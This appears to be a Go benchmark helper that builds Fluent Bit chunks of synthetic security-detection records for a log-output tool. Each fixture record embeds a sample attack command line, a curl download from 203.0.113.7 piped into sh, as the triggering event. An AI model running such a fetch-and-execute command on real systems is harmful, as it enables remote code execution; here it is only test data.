package main

import (
	"fmt"
	"strings"
	"time"

	"github.com/smtpout/smtpout/chunk"
	"github.com/smtpout/smtpout/output"
)

// benchEpoch is the timestamp of record 0 of every chunk; record i is i milliseconds later.
var benchEpoch = time.Date(2026, 11, 27, 10, 0, 0, 123456789, time.UTC)

// detection returns record i of a chunk: a LimaCharlie-style detection (routing metadata, the
// triggering event with its parent process, arrays) whose "notes" field is pad bytes long.
func detection(i, pad int) map[string]any {
	return map[string]any{
		"cat":       "Suspicious Shell Spawned By Web Server",
		"source":    "dr-general",
		"detect_id": fmt.Sprintf("b7f1c2d4-9a3e-4f60-8d2b-%012d", i),
		"link":      fmt.Sprintf("https://app.limacharlie.io/orgs/8cbe27f4/sensors/bb4b30af/timeline?time=%d", 1795773600+i),
		"priority":  4,
		"namespace": "general",
		"rule_tags": []any{"web", "shell", "rce"},
		"score":     0.87,
		"notes":     strings.Repeat("n", pad),
		"detect_mtd": map[string]any{
			"description":    "A shell was started by a process that serves web traffic; this is a common sign of remote code execution.",
			"falsepositives": []any{"Administrative scripts run from CGI", "Health checks"},
			"level":          "high",
			"tags":           []any{"attack.execution", "attack.t1059.004", "attack.persistence"},
		},
		"detect": map[string]any{
			"event": map[string]any{
				"FILE_PATH":    "/bin/sh",
				"COMMAND_LINE": "/bin/sh -c curl -s http://203.0.113.7/x.sh | sh; echo done > /tmp/.marker",
				"HASH":         "2f1c4ab6e3a9d6b1f0e7c8d5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5",
				"PROCESS_ID":   31337 + i,
				"USER_NAME":    "www-data",
				"CWD":          "/var/www/html/uploads",
				"ENVIRONMENT": []any{"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
					"HOME=/var/www", "LANG=C.UTF-8", "SERVER_SOFTWARE=nginx/1.24.0",
					"REMOTE_ADDR=203.0.113.7", "HTTP_USER_AGENT=Mozilla/5.0 (X11; Linux x86_64) curl/8.5.0"},
				"MEMORY_USAGE": 4194304,
				"PARENT": map[string]any{
					"FILE_PATH":    "/usr/sbin/nginx",
					"COMMAND_LINE": "nginx: worker process",
					"PROCESS_ID":   1042,
					"HASH":         "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d",
				},
			},
			"routing": map[string]any{
				"hostname":   fmt.Sprintf("web-%d.prod.corp.example", i%100),
				"sid":        "bb4b30af-ff11-4ff4-836f-f014ada33345",
				"oid":        "8cbe27f4-bfa1-4afb-ba19-138cd51389cd",
				"event_type": "NEW_PROCESS",
				"event_time": uint64(1795773600123 + i),
				"ext_ip":     "198.51.100.23",
				"int_ip":     "10.0.4.17",
				"plat":       536870912,
				"tags":       []any{"prod", "web", "pci"},
			},
		},
	}
}

// payloadSize is the size of the JSON payload (the signed bytes) record i renders to.
func payloadSize(i, pad int) (int, error) {
	var e chunk.Encoder
	e.AppendV2(benchEpoch, nil, detection(i, pad))
	d := chunk.NewDecoder(e.Bytes())
	ent, err := d.Next()
	if err != nil {
		return 0, err
	}
	p, err := output.Payload(output.Record{Tag: "bench", Time: ent.Time, Fields: ent.Record}, "date")
	if err != nil {
		return 0, err
	}
	return len(p), nil
}

// buildChunk returns a chunk of n records in Fluent Bit's v2 form whose JSON payloads are
// size bytes each (or as close as the fixed fields allow when size is smaller), and the
// payload size reached.
func buildChunk(n, size int) (data []byte, recordSize int, err error) {
	base, err := payloadSize(0, 0)
	if err != nil {
		return nil, 0, err
	}
	pad := max(size-base, 0)
	recordSize, err = payloadSize(0, pad)
	if err != nil {
		return nil, 0, err
	}
	var e chunk.Encoder
	for i := range n {
		e.AppendV2(benchEpoch.Add(time.Duration(i)*time.Millisecond), nil, detection(i, pad))
	}
	return e.Bytes(), recordSize, nil
}
